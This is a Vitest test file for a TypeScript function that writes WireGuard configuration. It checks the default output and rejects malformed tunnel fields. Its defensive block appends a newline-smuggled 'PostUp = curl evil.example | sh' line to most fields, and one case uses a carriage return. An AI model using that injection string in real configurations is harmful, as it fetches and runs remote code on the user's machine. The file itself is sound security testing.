import { describe, expect, test } from 'vitest'
import type { Tunnel } from './tunnel.ts'
import { wireguardConfig } from './wireguard-config.ts'

const tunnel: Tunnel = {
  privateKey: `0x${'01'.repeat(32)}`,
  publicKey: `0x${'02'.repeat(32)}`,
  address4: '100.64.3.9',
  address6: 'fd00:4::1f',
  serverKey: `0x${'03'.repeat(32)}`,
  endpoint: '203.0.113.7:51820',
  allowedIps: ['0.0.0.0/0', '::/0'],
  dns: [],
  mtu: 1420,
  persistentKeepalive: 25,
}

test('default', () => {
  expect(wireguardConfig(tunnel)).toMatchInlineSnapshot(`
    "[Interface]
    PrivateKey = AQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQE=
    Address = 100.64.3.9/32, fd00:4::1f/128
    MTU = 1420

    [Peer]
    PublicKey = AwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwM=
    AllowedIPs = 0.0.0.0/0, ::/0
    Endpoint = 203.0.113.7:51820
    PersistentKeepalive = 25
    "
  `)
})

test('resolvers are written only where there are any', () => {
  expect(wireguardConfig({ ...tunnel, dns: ['10.0.0.1', 'fd00::53'] })).toContain('\nDNS = 10.0.0.1, fd00::53\n')
})

test.each(['[2001:db8::1]:51820', 'node.example:1', '203.0.113.7:65535'])('takes the endpoint %s', (endpoint) => {
  expect(wireguardConfig({ ...tunnel, endpoint })).toContain(`Endpoint = ${endpoint}\n`)
})

describe('a node cannot bring a line of its own', () => {
  const evil = '\nPostUp = curl evil.example | sh'
  const attempts: [string, Partial<Record<keyof Tunnel, unknown>>][] = [
    ['address4', { address4: `100.64.3.9${evil}` }],
    ['address4 with a prefix', { address4: '100.64.3.9/8' }],
    ['address4 out of range', { address4: '100.64.3.256' }],
    ['address4 in octal', { address4: '0100.64.3.9' }],
    ['address6', { address6: `fd00::1${evil}` }],
    ['address6 with a zone', { address6: 'fe80::1%eth0' }],
    ['address6 that is none', { address6: ':::' }],
    ['serverKey', { serverKey: `0x${'03'.repeat(32)}${evil}` }],
    ['serverKey too short', { serverKey: '0x03' }],
    ['endpoint', { endpoint: `203.0.113.7:51820${evil}` }],
    ['endpoint with a return', { endpoint: '203.0.113.7:51820\rPostUp = x' }],
    ['endpoint before the port', { endpoint: `node.example${evil}:51820` }],
    ['endpoint without a port', { endpoint: 'node.example' }],
    ['endpoint with a bad port', { endpoint: 'node.example:65536' }],
    ['endpoint that looks like an address', { endpoint: '1.2.3:51820' }],
    ['endpoint with a comment', { endpoint: '#:51820' }],
    ['allowedIps', { allowedIps: ['0.0.0.0/0', `::/0${evil}`] }],
    ['allowedIps in one text', { allowedIps: ['0.0.0.0/0, ::/0'] }],
    ['allowedIps without a prefix', { allowedIps: ['0.0.0.0'] }],
    ['allowedIps empty', { allowedIps: [] }],
    ['dns', { dns: [`10.0.0.1${evil}`] }],
    ['dns by name', { dns: ['evil.example'] }],
    ['mtu', { mtu: `1420${evil}` }],
    ['mtu not whole', { mtu: 1420.5 }],
    ['keepalive', { persistentKeepalive: `25${evil}` }],
    ['keepalive too long', { persistentKeepalive: 65_536 }],
  ]
  test.each(attempts)('%s', (_, changes) => {
    const hostile = { ...tunnel, ...changes } as Tunnel
    expect(() => wireguardConfig(hostile)).toThrow(expect.objectContaining({ code: 'TUNNEL_INVALID' }))
  })
})
